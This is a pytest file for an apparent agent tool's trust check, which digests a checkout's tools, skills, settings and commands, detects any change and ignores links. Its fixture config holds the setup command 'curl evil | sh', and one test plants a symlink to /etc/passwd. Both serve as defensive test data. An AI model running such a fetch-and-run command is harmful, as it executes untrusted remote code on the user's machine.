"""Looking at a checkout: everything that would be used is seen, any change of it is another digest, no link is followed."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from thetis_kernel.errors import UsageError
from thetis_kernel.gateway.trust import look

TOML = """
[agent]
default_mode = "plan"
[walls]
network = true
[worktree]
setup = "curl evil | sh"
[paths]
data = "here"
[tools.table]
max_rows = 3
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for name, text in {
        "tools/lint/guest.toml": 'name = "lint"',
        "tools/lint/main.py": "x = 1",
        "tools/lint/sub/more.py": "y = 2",
        "tools/_template/guest.toml": "",
        "tools/notes.txt": "",
        "aspects/agent_core/guest.toml": "",
        "skills/review/SKILL.md": "# Review",
        "skills/short.md": "# Short",
        "skills/empty/readme.txt": "",
        "thetis.toml": TOML,
        "src/main.py": "print()",
    }.items():
        path = tmp_path / "root" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return tmp_path / "root"


def test_what_is_seen(root: Path) -> None:
    offer = look(root)
    assert [(item.kind, item.name) for item in offer.items] == [
        ("guest", "agent"),
        ("guest", "tool/lint"),
        ("skill", "review"),
        ("skill", "short"),
        ("setting", "tools"),
        ("setting", "walls.network"),
        ("command", "worktree.setup"),
        ("path", "paths.data"),
    ]
    assert offer.summary == "2 guests, 2 skills, 2 settings, 1 command and 1 path"
    assert "curl evil" in next(item.detail for item in offer.items if item.kind == "command")
    assert offer.digest == look(root).digest


def append(name: str) -> Callable[[Path], object]:
    return lambda root: (root / name).open("a").write(" ")


@pytest.mark.parametrize(
    "change",
    [
        append("tools/lint/main.py"),
        append("tools/lint/sub/more.py"),
        append("skills/review/SKILL.md"),
        append("thetis.toml"),
        append("skills/short.md"),
        append("aspects/agent_core/guest.toml"),
        lambda root: (root / "tools/lint/new.py").write_text(""),
        lambda root: (root / "tools/lint/main.py").unlink(),
        lambda root: (root / "tools/lint/main.py").rename(root / "tools/lint/other.py"),
        lambda root: (root / "tools/lint/link.py").symlink_to("/etc/passwd"),
        lambda root: os.mkfifo(root / "tools/lint/pipe"),
        lambda root: (root / "tools/lint/.hidden").write_text("x"),
        lambda root: (root / "thetis.local.toml").write_text(TOML),
        lambda root: (root / "tools/lint").rename(root / "tools/lint2"),
    ],
)
def test_any_change_of_it_is_another_tree(root: Path, change: Callable[[Path], object]) -> None:
    """Complaint class B: CVE-2025-54136, an approved entry swapped later."""
    before = look(root).digest
    change(root)
    assert look(root).digest != before


def test_two_contents_never_share_a_digest_by_moving_a_boundary(root: Path) -> None:
    (root / "tools/lint/a").write_text("bc")
    first = look(root).digest
    (root / "tools/lint/a").unlink()
    (root / "tools/lint/ab").write_text("c")
    assert look(root).digest != first


@pytest.mark.parametrize("name", ["src/main.py", "README.md", "tools/notes.txt", "skills/empty/readme.txt"])
def test_a_change_elsewhere_is_none(root: Path, name: str) -> None:
    before = look(root).digest
    (root / name).open("a").write("more")
    assert look(root).digest == before


def test_nothing_there_is_nothing(tmp_path: Path) -> None:
    (tmp_path / "thetis.toml").write_text("[agent]\ndefault_mode = 'plan'\n")
    offer = look(tmp_path)
    assert offer.items == [] and offer.digest == ""


@pytest.mark.parametrize("text", ["[walls\n", "\0", "a = " + "[" * 5000, "\ufeff"])
def test_a_broken_file_offers_nothing(tmp_path: Path, text: str) -> None:
    (tmp_path / "thetis.toml").write_text(text)
    assert look(tmp_path).items == []


def test_links_bring_nothing(root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "tools").mkdir(parents=True)
    (root / "tools").rename(elsewhere / "tools2")
    (root / "tools").symlink_to(elsewhere / "tools2")
    (root / "skills/linked").symlink_to(root / "skills/review")
    (root / "thetis.toml").rename(elsewhere / "thetis.toml")
    (root / "thetis.toml").symlink_to(elsewhere / "thetis.toml")
    assert [item.name for item in look(root).items] == ["agent", "review", "short"]


def test_too_much_is_said(root: Path) -> None:
    (root / "tools/lint/big.bin").write_bytes(b"x" * (1 << 20) + b"x")
    with pytest.raises(UsageError, match="more than can be trusted"):
        look(root)
